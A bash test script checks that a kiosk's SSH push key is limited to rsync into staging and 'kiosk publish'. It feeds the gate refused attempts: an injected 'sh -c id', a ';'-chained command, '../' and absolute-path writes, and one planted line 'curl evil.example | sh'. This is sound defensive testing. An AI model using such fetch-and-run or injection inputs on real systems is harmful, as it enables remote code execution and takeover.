#!/usr/bin/env bash
# The SSH key that pushes content can rsync into staging and run `kiosk publish`, and nothing
# else (security review K1): platform/linux/ssh/kiosk-push-gate as sshd would run it, with
# SSH_ORIGINAL_COMMAND set from what the client asked. rsync reaches it through a stand-in for
# ssh, so the real rsync protocol runs through the gate; no sshd is needed.
#   push-gate.sh KIOSK SOURCE_DIR OUT_DIR
set -euo pipefail
kiosk=$1 src=$2 out=$3
gate="$(cd "$src" && pwd)/platform/linux/ssh/kiosk-push-gate"
fail() { echo "push-gate: $*" >&2; exit 1; }
command -v rsync >/dev/null && command -v rrsync >/dev/null ||
  fail "rsync (with rrsync) is missing; run platform/scripts/setup-debian.sh test"
rm -rf "$out"
root="$out/var-lib-kiosk"
mkdir -p "$root/staging" "$out/editor"
printf 'export PS1=kiosk\n' >"$root/.bash_profile"
cp "$root/.bash_profile" "$out/bash_profile.before"
export KIOSK_PUSH_ROOT="$root" KIOSK_PUSH_KIOSK="$kiosk"

# The stand-in for ssh: "fake-ssh HOST COMMAND..." runs the gate with COMMAND, as sshd does for
# a key with command="...". Like sshd, it joins the words with spaces.
fakessh="$out/fake-ssh"
cat >"$fakessh" <<SH
#!/bin/sh
shift
SSH_ORIGINAL_COMMAND="\$*" exec "$gate"
SH
chmod +x "$fakessh"
as_key() { SSH_ORIGINAL_COMMAND="$1" "$gate"; }

# 1. The push of the README, through the gate: content arrives in staging, publish shows it.
cp -r "$src/content/." "$out/editor/"
rsync -aL --delete --delay-updates -e "$fakessh" "$out/editor/" kiosk-host: || fail "the README's push was refused"
cmp "$src/content/kiosk.toml" "$root/staging/kiosk.toml" || fail "the push did not reach staging"
msg=$(as_key "kiosk publish") || fail "kiosk publish through the gate failed: $msg"
[[ "$msg" == *"published: "* ]] && [ -L "$root/content" ] || fail "publish through the gate did not make the content link: $msg"
echo "push-gate: rsync into staging and 'kiosk publish' pass the gate"

# 2. What the key must not do. Each is refused and leaves the kiosk's home as it was.
refused() { # WHAT COMMAND...
  local what=$1
  shift
  set +e
  "$@" >"$out/refused.out" 2>&1
  local status=$?
  set -e
  [ "$status" -ne 0 ] || fail "$what was allowed: $(cat "$out/refused.out")"
  echo "push-gate: refused, as it must be: $what (status $status)"
}
refused "a shell command" as_key "sh -c id"
refused "an empty command (an interactive login)" as_key ""
refused "publish with other folders" as_key "kiosk publish --quiet-seconds 0 /tmp/x $root/content"
refused "two commands joined by ;" as_key "kiosk publish; id"
grep -q "may only rsync into" "$out/refused.out" || fail "a refusal does not say what the key may do"
echo 'export PS1=evil; curl evil.example | sh' >"$out/bash_profile.evil"
refused "rsync to the home folder by ../" rsync -a -e "$fakessh" "$out/bash_profile.evil" kiosk-host:../.bash_profile
refused "rsync to an absolute path" rsync -a -e "$fakessh" "$out/bash_profile.evil" "kiosk-host:$root/.bash_profile"
refused "reading from the kiosk" rsync -a -e "$fakessh" kiosk-host:kiosk.toml "$out/stolen.toml"
cmp "$out/bash_profile.before" "$root/.bash_profile" || fail "the kiosk's .bash_profile changed"
[ ! -e "$out/stolen.toml" ] || fail "a file was read back from the kiosk"
# A link pushed without -L arrives munged: it cannot lead a later write out of staging.
ln -s "$root" "$out/editor/home"
rsync -a -e "$fakessh" "$out/editor/home" kiosk-host: || fail "a push with a link was refused outright"
target=$(readlink "$root/staging/home")
[ "$target" != "$root" ] || fail "a pushed link still points out of staging"
echo "push-gate: a pushed link arrives munged ($target)"
rm "$root/staging/home"
echo "push-gate: the kiosk's home is unchanged"
